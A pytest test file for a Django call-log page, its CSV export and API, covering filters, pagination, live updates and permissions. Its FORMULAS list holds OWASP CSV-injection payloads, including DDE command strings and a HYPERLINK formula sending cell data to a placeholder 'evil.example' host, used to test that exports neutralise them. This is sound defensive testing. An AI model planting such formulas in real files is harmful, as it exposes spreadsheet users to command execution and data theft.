"""The call log page, its CSV export, GET /api/v1/calls and GET /api/v1/calls/export.csv: one
filter, four views of it."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from calls.models import Call
from calls.services.events import call_event_record
from tests.calls.views.polling import settled
from tests.calls.webhook_helpers import vonage_status
from tests.factories import ApplicationFactory, CallFactory, ProviderAccountFactory
from voiceapps.adapters import account_adapter

pytestmark = pytest.mark.django_db


def day(d: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 1, d, hour, minute, tzinfo=UTC)


@pytest.fixture
def log(db):
    """Four calls that differ in every filtered field."""
    alpha = ProviderAccountFactory(vonage=True, name="alpha")
    beta = ProviderAccountFactory(voicegateway=True, name="beta")
    sales = ApplicationFactory(account=alpha, name="Sales")
    ivr = ApplicationFactory(account=beta, name="IVR")
    calls = {
        "c1": CallFactory(
            account=alpha, provider="vonage", application=sales, direction="outbound",
            status="completed", answered_by="human", from_number="+447700900000",
            to_display="+31201234567", tag={"campaign": "spring"}, duration_seconds=62,
            created_at=day(3, 10), answered_at=day(3, 10)),
        "c2": CallFactory(
            account=alpha, provider="vonage", direction="inbound", status="busy",
            from_number="+31612345678", to_display="+447700900001", created_at=day(4, 9)),
        "c3": CallFactory(
            account=beta, provider="voicegateway", application=ivr, direction="outbound",
            status="answered", answered_by="machine", from_number="+15083728299",
            to_display="sip:bob@example.com", tag={"campaign": "autumn"},
            created_at=day(5, 12)),
        "c4": CallFactory(
            account=beta, provider="voicegateway", direction="outbound", status="failed",
            from_number="+15083728299", to_display="+15555550100", tag={"vip": "yes"},
            created_at=day(5, 23, 30)),
    }
    return {"calls": calls, "alpha": alpha, "sales": sales, "ivr": ivr}


# (parameters, the calls they keep); "@name" stands for the id of a fixture object.
FILTERS = [
    ({"status": "busy"}, {"c2"}),
    ({"provider": "voicegateway"}, {"c3", "c4"}),
    ({"account": "@alpha"}, {"c1", "c2"}),
    ({"application": "@ivr"}, {"c3"}),
    ({"direction": "inbound"}, {"c2"}),
    ({"answered_by": "machine"}, {"c3"}),
    ({"since": "2026-01-05"}, {"c3", "c4"}),
    ({"until": "2026-01-04"}, {"c1", "c2"}),
    ({"since": "2026-01-04T08:00", "until": "2026-01-05T12:00"}, {"c2", "c3"}),
    ({"from_number": "3161"}, {"c2"}),
    ({"to_number": "EXAMPLE.com"}, {"c3"}),
    ({"tag": "campaign"}, {"c1", "c3"}),
    ({"tag": "campaign:spring"}, {"c1"}),
    ({"status": "completed", "provider": "vonage", "application": "@sales"}, {"c1"}),
]


def resolve(params: dict, log: dict) -> dict:
    return {k: str(log[v[1:]].pk) if v.startswith("@") else v for k, v in params.items()}


def page_ids(response) -> list[int]:
    return [int(pk) for pk in re.findall(r'<tr id="call-(\d+)"', response.content.decode())]


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(("params", "kept"), FILTERS, ids=[str(p) for p, _ in FILTERS])
def test_each_filter_narrows_the_page_the_csvs_and_the_api_alike(
    log, client_for, api_for, viewer_user, params, kept
):
    params = resolve(params, log)
    expected = sorted((log["calls"][name].pk for name in kept), reverse=True)
    assert len(expected) < len(log["calls"])  # it does narrow

    page = client_for(viewer_user).get("/calls/", params)
    export = client_for(viewer_user).get("/calls/export.csv", params)
    api = api_for(viewer_user).get("/api/v1/calls", params)
    api_export = api_for(viewer_user).get("/api/v1/calls/export.csv", params)

    assert page.status_code == export.status_code == api.status_code == 200
    assert api_export.status_code == 200 and api_export.streaming
    assert page_ids(page) == expected
    rows = csv_rows(export)
    assert [int(row["id"]) for row in rows] == expected
    assert [call["id"] for call in api.json()["results"]] == expected
    assert csv_rows(api_export) == rows  # the same file, row for row and column for column


def test_without_filters_every_call_shows_newest_first(log, client_for, viewer_user):
    page = client_for(viewer_user).get("/calls/")
    names = {call.pk: name for name, call in log["calls"].items()}
    assert [names[pk] for pk in page_ids(page)] == ["c4", "c3", "c2", "c1"]
    html = page.content.decode()
    assert 'class="pill ok"' in html and "Completed" in html  # status pills, coloured
    assert "1:02" in html and "campaign=spring" in html and "Voice Gateway" in html


def test_an_invalid_filter_is_an_error_everywhere_not_a_silently_wider_list(
    log, client_for, api_for, viewer_user
):
    client = client_for(viewer_user)
    page = client.get("/calls/", {"status": "sleeping", "since": "yesterday-ish"})
    assert page.status_code == 200 and page_ids(page) == []
    assert "Select a valid choice" in page.content.decode()
    assert "“yesterday-ish” is not a date" in page.content.decode()
    assert client.get("/calls/export.csv", {"status": "sleeping"}).status_code == 400
    api = api_for(viewer_user).get("/api/v1/calls", {"status": "sleeping"})
    assert api.status_code == 400 and "status" in api.json()["fields"]


def test_the_csv_has_the_columns_and_guards_against_formulas(log, client_for, viewer_user):
    log["calls"]["c2"].from_number = "=HYPERLINK(\"http://x\")"
    log["calls"]["c2"].save()
    response = client_for(viewer_user).get("/calls/export.csv")
    assert response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="calls-')
    rows = {int(row["id"]): row for row in csv_rows(response)}
    c1, c2 = rows[log["calls"]["c1"].pk], rows[log["calls"]["c2"].pk]
    assert (c1["from"], c1["status"], c1["account"], c1["application"]) == (
        "+447700900000", "completed", "alpha", "Sales")
    assert c1["tag"] == '{"campaign": "spring"}' and c1["duration_seconds"] == "62"
    assert c2["from"].startswith("'=")


# OWASP's CSV injection examples and their variants: each starts a formula in a spreadsheet.
FORMULAS = [
    "=1+2", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+2", "+cmd|' /C calc'!A0", "-1+2", '-1+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\t", "\rplain",
    " =1+2", "   +1+2", "  -1+2", " @SUM(1)", "  \t=1+2", "\n=1+2",
    "+31612345678\n=1+2", "+31 612345678", "+1234567890123456",  # not E.164: escaped too
]
TEXT_COLUMNS = {"from": "from_number", "to": "to_display", "provider_status": "provider_status",
                "failure_detail": "failure_detail", "provider_call_id": "provider_call_id"}


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_formula_a_spreadsheet_would_run_is_exported_quoted(payload, log, client_for,
                                                                 viewer_user):
    call = log["calls"]["c2"]
    stored = {}  # as much of the payload as each column holds (PostgreSQL enforces lengths)
    for column, field in TEXT_COLUMNS.items():
        stored[column] = payload[:Call._meta.get_field(field).max_length]
        setattr(call, field, stored[column])
    call.save()
    log["alpha"].name = stored["account"] = payload
    log["alpha"].save()

    rows = {int(row["id"]): row for row in csv_rows(
        client_for(viewer_user).get("/calls/export.csv"))}

    row = rows[call.pk]
    for column, value in stored.items():
        assert row[column] == "'" + value, column


def test_e164_numbers_are_exported_as_typed_in_the_number_columns_only(log, client_for,
                                                                       viewer_user):
    call = log["calls"]["c2"]
    call.failure_detail = "+31612345678"
    call.save()

    row = {int(row["id"]): row for row in csv_rows(
        client_for(viewer_user).get("/calls/export.csv"))}[call.pk]

    assert (row["from"], row["to"]) == ("+31612345678", "+447700900001")
    assert row["failure_detail"] == "'+31612345678"  # not a number column: quoted


def test_keyset_pages_walk_the_whole_log_without_counting_it_all(client_for, viewer_user):
    account = ProviderAccountFactory()
    start = timezone.now() - timedelta(days=1)
    Call.objects.bulk_create([
        CallFactory.build(account=account, to_display=f"+3120000{n:04}",
                          created_at=start + timedelta(minutes=n // 2))  # pairs share a time
        for n in range(120)
    ])
    client = client_for(viewer_user)
    seen, url, pages = [], "/calls/?direction=outbound", 0
    while url:
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
        # The filter bar's result count stops at COUNT_CAP: a bounded subquery, no scan.
        assert not any("COUNT(" in q["sql"].upper() and "LIMIT" not in q["sql"].upper()
                       for q in queries.captured_queries)
        seen += page_ids(response)
        older = re.search(r'href="([^"]+)">Older', response.content.decode())
        url = older.group(1).replace("&amp;", "&") if older else None
        pages += 1
        assert "direction=outbound" in (url or "direction=outbound")  # filters kept
    expected = list(Call.objects.order_by("-created_at", "-id").values_list("pk", flat=True))
    assert seen == expected and pages == 3


# -- live updates -------------------------------------------------------------------------


def live_url(response) -> str:
    return re.search(r'hx-get="([^"]+)"', response.content.decode()).group(1).replace("&amp;", "&")


def test_the_live_fragment_is_cheap_when_nothing_changed(log, client_for, viewer_user):
    client = client_for(viewer_user)
    with settled():
        url = live_url(client.get("/calls/", {"provider": "vonage"}))
        assert "provider=vonage" in url and "since_change=" in url
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
    assert response.status_code == 204 and response.content == b""
    # One query of the newest page's ids and versions, no call loaded or rendered.
    call_queries = [q["sql"] for q in queries.captured_queries if '"calls_call"' in q["sql"]]
    assert len(call_queries) == 1 and "LIMIT" in call_queries[0].upper()
    assert '"calls_call"."to_display"' not in call_queries[0]


def test_the_live_fragment_brings_new_calls_and_status_changes(log, client_for, viewer_user):
    client = client_for(viewer_user)
    url = live_url(client.get("/calls/", {"provider": "vonage"}))
    account = log["alpha"]
    payload = vonage_status("ringing", direction="inbound")
    event = account_adapter(account, webhooks_only=True).parse_event(payload)
    call_event_record(account=account, event=event, payload=payload)
    new_call = Call.objects.get(provider_call_id=payload["uuid"])

    response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert page_ids(response)[0] == new_call.pk
    assert f'<tr id="call-{new_call.pk}" data-status="ringing" class="changed">' in html
    assert f'id="call-{log["calls"]["c3"].pk}"' not in html  # still filtered
    # The fragment carries its own next poll, with what it shows: with nothing changed since,
    # it answers 204 at once, even within the late-change margin.
    assert client.get(live_url(response)).status_code == 204


def rendered_and_kept(response) -> tuple[list[int], list[int]]:
    html = response.content.decode()
    kept = [int(pk) for pk in re.findall(r'<tr id="call-(\d+)" data-kept>', html)]
    return [pk for pk in page_ids(response) if pk not in kept], kept


def test_the_live_fragment_reads_the_page_once_and_renders_only_the_rows_that_changed(
        log, client_for, viewer_user):
    client = client_for(viewer_user)
    calls = log["calls"]
    with settled():
        page = client.get("/calls/")
        Call.objects.filter(pk=calls["c3"].pk).update(status="completed",
                                                      updated_at=timezone.now())
        with CaptureQueriesContext(connection) as queries:
            response = client.get(live_url(page))
    rendered, kept = rendered_and_kept(response)
    assert rendered == [calls["c3"].pk]
    assert kept == [calls["c4"].pk, calls["c2"].pk, calls["c1"].pk]
    assert f'<tr id="call-{calls["c3"].pk}" data-status="completed" class="changed">' in \
        response.content.decode()
    # One narrow read of the page's ids and versions, then the changed row loaded in full.
    call_queries = [q["sql"] for q in queries.captured_queries if '"calls_call"' in q["sql"]]
    assert len(call_queries) == 2
    versions, changed = call_queries
    assert "LIMIT" in versions.upper() and '"calls_call"."to_display"' not in versions
    assert '"calls_call"."to_display"' in changed


def test_a_row_changed_with_a_stamp_before_the_latest_shown_is_rendered_in_full(
        log, client_for, viewer_user):
    """A change committed after the page was rendered, stamped by a clock running a little
    behind: its row is sent in full, never as a placeholder for the row the page has."""
    client = client_for(viewer_user)
    calls = log["calls"]
    page = client.get("/calls/")
    latest = max(call.updated_at for call in calls.values())
    Call.objects.filter(pk=calls["c1"].pk).update(status="completed",
                                                  updated_at=latest - timedelta(seconds=1))
    response = client.get(live_url(page))
    assert calls["c1"].pk in rendered_and_kept(response)[0]
    assert f'id="call-{calls["c1"].pk}" data-status="completed"' in response.content.decode()


def test_a_row_that_comes_onto_the_page_from_below_is_rendered_in_full(
        log, client_for, viewer_user):
    """The newest call stops matching the filter: the next older one takes the page's last
    place, and the page never had it."""
    client = client_for(viewer_user)
    calls = log["calls"]
    with settled():
        page = client.get("/calls/", {"provider": "voicegateway", "page_size": 1})
        assert page_ids(page) == [calls["c4"].pk]
        Call.objects.filter(pk=calls["c4"].pk).update(provider="vonage",
                                                      updated_at=timezone.now())
        response = client.get(live_url(page))
    assert rendered_and_kept(response) == ([calls["c3"].pk], [])


def test_a_forged_page_state_is_a_400(log, client_for, viewer_user):
    response = client_for(viewer_user).get("/calls/live", {"page_state": "abc.x.1"})
    assert response.status_code == 400


def test_a_change_stamped_before_the_latest_shown_but_committed_after_it_still_shows(
        log, client_for, viewer_user):
    """Another node's change can commit after a later one was shown, or carry the stamp of
    a clock running a little behind: the page's next poll still brings it."""
    client = client_for(viewer_user)
    # The page is shown within LATE_CHANGE_MARGIN of its latest change, however long the
    # log took to build: a change stamped a second before that one may still commit.
    newest = max(log["calls"].values(), key=lambda call: call.updated_at)
    latest = timezone.now()
    Call.objects.filter(pk=newest.pk).update(updated_at=latest)
    page = client.get("/calls/")
    late = CallFactory(account=log["alpha"], provider="vonage", status="ringing")
    Call.objects.filter(pk=late.pk).update(updated_at=latest - timedelta(seconds=1))

    response = client.get(live_url(page))
    assert response.status_code == 200
    assert f'id="call-{late.pk}" data-status="ringing"' in response.content.decode()


def test_older_pages_do_not_poll(log, client_for, viewer_user):
    client = client_for(viewer_user)
    first = client.get("/calls/", {"page_size": 2})
    older = re.search(r'href="([^"]+)">Older', first.content.decode()).group(1)
    response = client.get(older.replace("&amp;", "&"))
    assert len(page_ids(response)) == 2 and "hx-get" not in response.content.decode()
    assert "Back to the newest calls" in response.content.decode()


@pytest.mark.parametrize("cursor", ["cD0yMDI2", "not-base64!", "cD0"])
def test_a_forged_cursor_is_a_404_page_and_a_400_in_the_api(log, client_for, api_for,
                                                            viewer_user, cursor):
    assert client_for(viewer_user).get("/calls/", {"cursor": cursor}).status_code == 404
    refused = api_for(viewer_user).get("/api/v1/calls", {"cursor": cursor})
    assert refused.status_code == 400 and "cursor" in refused.json()["fields"]


def test_an_expired_session_sends_the_live_log_to_the_login_page(log, client):
    response = client.get("/calls/live?since_change=x")
    assert response.status_code == 204 and response["HX-Redirect"] == "/login/"


def test_the_empty_log_says_what_to_do_and_shows_the_first_call_by_itself(
    client_for, operator_user
):
    client = client_for(operator_user)
    empty = client.get("/calls/")
    assert "No calls yet" in empty.content.decode()
    assert "Place your first call" in empty.content.decode()
    assert client.get(live_url(empty)).status_code == 204
    account = ProviderAccountFactory()
    first = CallFactory(account=account, provider="vonage", to_display="+31201234567")
    assert page_ids(client.get(live_url(empty))) == [first.pk]


# -- permissions ----------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/calls/", "/calls/export.csv", "/calls/live"])
def test_the_log_needs_a_role(log, client_for, personas, url):
    assert client_for(personas["outsider"]).get(url).status_code == 403
    for role in ("viewer", "operator", "admin"):
        assert client_for(personas[role]).get(url).status_code in (200, 204)
    anonymous = client_for(None).get(url)
    assert anonymous.status_code in (302, 204)


def test_the_calls_api_needs_a_role(log, api_for, personas):
    assert api_for(None).get("/api/v1/calls").status_code == 401
    assert api_for(personas["outsider"]).get("/api/v1/calls").status_code == 403
    for role in ("viewer", "operator", "admin"):
        assert api_for(personas[role]).get("/api/v1/calls").status_code == 200


def test_the_filter_bar_counts_and_shows_the_filters_on_as_removable_chips(
    log, client_for, viewer_user
):
    html = client_for(viewer_user).get(
        "/calls/", {"status": "completed", "tag": "campaign"}).content.decode()

    assert '<details class="filterbox">' in html  # folded: the calls come first
    assert 'data-field="count">1 result<' in html
    assert "Status: Completed" in html and "Tag: campaign" in html
    # Each chip's link empties its own filter and keeps the other.
    assert 'href="?status=&amp;tag=campaign"' in html
    assert 'href="?status=completed&amp;tag="' in html


def test_dates_are_typed_as_iso_dates(log, client_for, viewer_user):
    html = client_for(viewer_user).get("/calls/").content.decode()
    since = re.search(r'<input[^>]*name="since"[^>]*>', html).group(0)
    assert 'placeholder="YYYY-MM-DD"' in since and 'type="text"' in since


def test_one_number_format_one_time_style_and_no_zero_durations(log, client_for, viewer_user):
    html = client_for(viewer_user).get("/calls/").content.decode()
    row = {name: html[html.index(f'id="call-{call.pk}"'):].split("</tr>")[0]
           for name, call in log["calls"].items()}
    assert "+31 20 123 4567" in row["c1"] and "+44 7700 900000" in row["c1"]  # grouped
    assert "2026-01-03 10:00:00" in row["c1"]  # the server's time zone is UTC in tests
    assert "sip:bob@example.com" in row["c3"]  # an address stays as it is
    busy = row["c2"].split("<td")
    assert busy[6].strip().endswith(">—</td>")  # nobody answered
    assert busy[7].strip().endswith(">—, never connected</td>")  # not 0:00


def test_an_answered_call_without_machine_detection_says_not_detected(client_for, viewer_user):
    call = CallFactory(status="completed", answered_at=day(3, 10), duration_seconds=5)
    html = client_for(viewer_user).get("/calls/").content.decode()
    row = html[html.index(f'id="call-{call.pk}"'):].split("</tr>")[0]
    assert "<td>not detected</td>" in row  # not "—", which reads as not answered
